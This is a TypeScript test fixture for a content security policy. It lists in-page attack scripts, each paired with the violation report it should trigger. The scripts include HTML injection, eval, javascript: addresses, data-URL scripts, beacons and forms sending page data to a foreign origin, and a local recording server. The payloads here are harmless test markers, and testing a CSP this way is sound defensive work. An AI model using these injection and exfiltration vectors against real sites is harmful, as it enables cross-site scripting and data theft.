import { createServer } from 'node:http';
import { listen } from 'local/http/listen';

/** An attack from inside a page, and what the content security policy reports of it. */
interface Attack {
  name: string;
  /** The beginning of the report: the directive that forbids the attack, and what was kept out. */
  report: string;
  /** JavaScript. It sets `window.broken` when it runs in spite of the policy. */
  script: string;
}

const textAsCode = 'require-trusted-types-for trusted-types-sink';

/** Chromium lets the debugger's own call evaluate everything, so the script runs after it. */
const later = (script: string) => `setTimeout(() => { ${script} })`;
const put = (tag: string, properties: object) =>
  `document.body.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)}))`;
const breaking = 'window.broken = true';

/** Returns the attacks for the origin of another site and the origin of this one. */
export const attacks = (foreign: string, own: string): Attack[] => [
  {
    name: 'a text that becomes HTML',
    report: textAsCode,
    script: `document.body.innerHTML = '<img src="/favicon.svg" onload="${breaking}">'`,
  },
  {
    name: 'HTML for a document that is not shown',
    report: textAsCode,
    script: `new DOMParser().parseFromString('<p>text</p>', 'text/html')`,
  },
  {
    name: 'a policy that would let text become HTML',
    report: 'trusted-types trusted-types-policy',
    script: `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
  },
  {
    name: 'an inline script',
    report: textAsCode,
    script: put('script', { textContent: breaking }),
  },
  {
    name: 'an attribute that is a script',
    report: textAsCode,
    script: `const link = document.createElement('i'); link.setAttribute('onclick', '${breaking}'); link.click()`,
  },
  {
    name: 'a javascript: address',
    report: 'script-src-elem inline',
    script: `Object.assign(document.createElement('a'), { href: 'javascript:${breaking}' }).click()`,
  },
  { name: 'eval', report: textAsCode, script: later(`(0, eval)('${breaking}')`) },
  { name: 'new Function', report: textAsCode, script: later(`new Function('${breaking}')()`) },
  { name: 'a text as a timer', report: textAsCode, script: later(`setTimeout('${breaking}')`) },
  {
    name: 'a foreign script',
    report: textAsCode,
    script: put('script', { src: `${foreign}/script.js` }),
  },
  {
    name: 'a script in its own address',
    report: textAsCode,
    script: put('script', { src: `data:text/javascript,${breaking}` }),
  },
  { name: 'a foreign image', report: `img-src ${foreign}`, script: put('img', { src: `${foreign}/a.png` }) },
  { name: 'fetch', report: `connect-src ${foreign}`, script: `fetch('${foreign}/fetch').catch(() => {})` },
  {
    name: 'a beacon',
    report: `connect-src ${foreign}`,
    script: `navigator.sendBeacon('${foreign}/beacon', document.title)`,
  },
  {
    name: 'a socket',
    report: `connect-src ${foreign.replace('http', 'ws')}`,
    script: `new WebSocket('${foreign.replace('http', 'ws')}/socket')`,
  },
  { name: 'a foreign frame', report: `frame-src ${foreign}`, script: put('iframe', { src: foreign }) },
  { name: 'a frame of our own', report: `frame-src ${own}`, script: put('iframe', { src: '/stack' }) },
  {
    name: 'another base',
    report: `base-uri ${foreign}`,
    script: `document.head.append(Object.assign(document.createElement('base'), { href: '${foreign}/' }))`,
  },
  {
    name: 'a form that leads elsewhere',
    report: `form-action ${foreign}`,
    script: `const form = Object.assign(document.createElement('form'), { action: '${foreign}/form', method: 'post' });
      document.body.append(form); form.submit()`,
  },
  {
    name: 'an inline style sheet',
    report: 'style-src-elem inline',
    script: put('style', { textContent: '* { color: red }' }),
  },
  {
    name: 'an attribute that is a style',
    report: 'style-src-attr inline',
    script: `document.createElement('i').setAttribute('style', 'background: url(${foreign}/style.png)')`,
  },
  {
    name: 'a foreign style sheet',
    report: `style-src-elem ${foreign}`,
    script: put('link', { rel: 'stylesheet', href: `${foreign}/sheet.css` }),
  },
  {
    name: 'a foreign font',
    report: `font-src ${foreign}`,
    script: `new FontFace('x', 'url(${foreign}/font.woff2)').load().catch(() => {})`,
  },
  {
    name: 'an object',
    report: textAsCode,
    script: put('object', { data: `${foreign}/object` }),
  },
  { name: 'a film', report: `media-src ${foreign}`, script: put('video', { src: `${foreign}/film.mp4` }) },
  {
    name: 'a worker out of nowhere',
    report: textAsCode,
    script: `new Worker(URL.createObjectURL(new Blob(['fetch("${foreign}/worker")'])))`,
  },
];

/** Starts another site. It records its requests and allows every origin to read its answers. */
export async function startForeignSite() {
  const reached: string[] = [];
  let shown = '';
  const server = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(shown);
  });
  return {
    origin: `http://127.0.0.1:${await listen(server)}`,
    reached,
    show: (html: string) => void (shown = html),
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}
